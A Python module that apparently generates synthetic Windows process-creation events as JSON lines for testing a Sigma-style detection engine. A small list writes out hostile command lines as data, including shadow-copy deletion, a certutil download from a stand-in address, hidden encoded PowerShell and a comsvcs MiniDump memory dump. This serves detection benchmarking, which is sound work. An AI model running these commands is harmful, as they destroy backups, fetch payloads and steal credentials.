"""Windows process events written by us, as JSON lines: same count, same bytes; no line comes twice.

Two kinds. *Structured* events have the shape of rsigma's lane of the same name: a few programs, people and machines,
fresh identifiers, hashes and times. *Unique* events repeat no value in any field but those that say what kind of event
it is.
"""

from __future__ import annotations

import datetime as dt
import json
import random
from collections.abc import Callable, Iterator
from pathlib import Path

__all__ = ["structured_lines", "unique_lines", "write_lines"]

_BEGIN = dt.datetime(2026, 3, 2, 6, tzinfo=dt.UTC)
_PEOPLE = [rf"LANTERNFOLD\{name}" for name in ("ada", "bilal", "chen", "dora", "emre", "farah")]
_USERS = [*_PEOPLE, r"NT AUTHORITY\SYSTEM", r"NT AUTHORITY\LOCAL SERVICE"]
_LEVELS = ["Low", "Medium", "High", "System"]
_COMPUTERS = [f"{kind}{number:02d}.lanternfold.example" for kind in ("FS", "WS", "LT") for number in range(1, 9)]
_FOLDERS = ["C:\\Windows\\system32\\", "C:\\Users\\Public\\", "C:\\Program Files\\Lanternfold\\"]
_SYSTEM = "C:\\Windows\\System32\\"
_PROGRAMS = [
    (_SYSTEM + "svchost.exe", "-k LocalService -p -s Themes"),
    (_SYSTEM + "taskhostw.exe", "/RunTask"),
    (_SYSTEM + "conhost.exe", "0xffffffff -ForceV1"),
    (_SYSTEM + "wbem\\WmiPrvSE.exe", "-secured -Embedding"),
    (_SYSTEM + "backgroundTaskHost.exe", "-ServerName:Example.AppX"),
    ("C:\\Windows\\explorer.exe", "/factory,{5ec4f2d1-0000-4000-8000-00c04fd7d062} -Embedding"),
    ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "-contentproc -isForBrowser -childID"),
    ("C:\\Program Files\\LibreOffice\\program\\swriter.exe", "--nologo"),
    ("C:\\Program Files\\7-Zip\\7zFM.exe", "reports.7z"),
    (_SYSTEM + "sc.exe", "query"),
]
# One event in forty is one that defenders' rules speak of.
_SUSPICIOUS = [
    (_SYSTEM + "whoami.exe", "/all"),
    (_SYSTEM + "vssadmin.exe", "delete shadows /all /quiet"),
    (_SYSTEM + "certutil.exe", "-urlcache -f http://192.0.2.7/a.bin a.bin"),
    (_SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", "-NoP -W Hidden -EncodedCommand SQBFAFgA"),
    (_SYSTEM + "rundll32.exe", "comsvcs.dll, MiniDump 640 C:\\Users\\Public\\l.dmp full"),
]
_ONE_IN = 40


def write_lines(path: Path, lines: Callable[[int], Iterator[str]], count: int) -> None:
    """Write `count` events as JSON lines."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="\n") as stream:
        stream.writelines(lines(count))


def structured_lines(count: int) -> Iterator[str]:
    """Yield process events as a collector writes them: much of what they hold comes again and again."""
    chance = random.Random("structured")
    for number in range(count):
        image, arguments = chance.choice(_SUSPICIOUS if number % _ONE_IN == 0 else _PROGRAMS)
        parent, parent_arguments = chance.choice(_PROGRAMS)
        yield _line(
            chance,
            number,
            image=image,
            arguments=arguments,
            parent=parent,
            parent_arguments=parent_arguments,
            user=chance.choice(_USERS),
            level=chance.choice(_LEVELS),
            folder=chance.choice(_FOLDERS),
            computer=chance.choice(_COMPUTERS),
        )


def unique_lines(count: int) -> Iterator[str]:
    """Yield process events in which no text of a field comes twice: the worst case for whoever remembers values."""
    chance = random.Random("unique")
    for number in range(count):
        mark = f"{number:x}-{chance.getrandbits(48):012x}"
        yield _line(
            chance,
            number,
            image=f"C:\\Program Files\\Vendor {mark}\\bin\\tool{mark}.exe",
            arguments=f"--job {mark} --out D:\\work\\{mark}.dat --level {chance.randrange(9)}",
            parent=f"C:\\Program Files\\Vendor {mark}\\launcher{mark}.exe",
            parent_arguments=f"--session {mark}",
            user=f"LANTERNFOLD\\user-{mark}",
            level=f"level-{mark}",
            folder=f"D:\\work\\{mark}\\",
            computer=f"ws-{mark}.lanternfold.example",
        )


def _line(
    chance: random.Random,
    number: int,
    *,
    image: str,
    arguments: str,
    parent: str,
    parent_arguments: str,
    user: str,
    level: str,
    folder: str,
    computer: str,
) -> str:
    when = _BEGIN + dt.timedelta(milliseconds=37 * number)
    document = {
        "EventID": 1,
        "Image": image,
        "CommandLine": f'"{image}" {arguments}',
        "ParentImage": parent,
        "ParentCommandLine": f"{parent} {parent_arguments}",
        "User": user,
        "IntegrityLevel": level,
        "CurrentDirectory": folder,
        "LogonId": f"0x{number + 0x3E7:x}",
        "ProcessId": number * 4 + 4,
        "ParentProcessId": number * 4 + 6,
        "ProcessGuid": f"{{{chance.getrandbits(128):032x}}}",
        "Hashes": f"SHA256={chance.getrandbits(256):064X}",
        "OriginalFileName": image.rpartition("\\")[2],
        "Computer": computer,
        "UtcTime": f"{when:%Y-%m-%d %H:%M:%S}.{when.microsecond // 1000:03d}",
        "product": "windows",
        "category": "process_creation",
    }
    return json.dumps(document, separators=(",", ":")) + "\n"
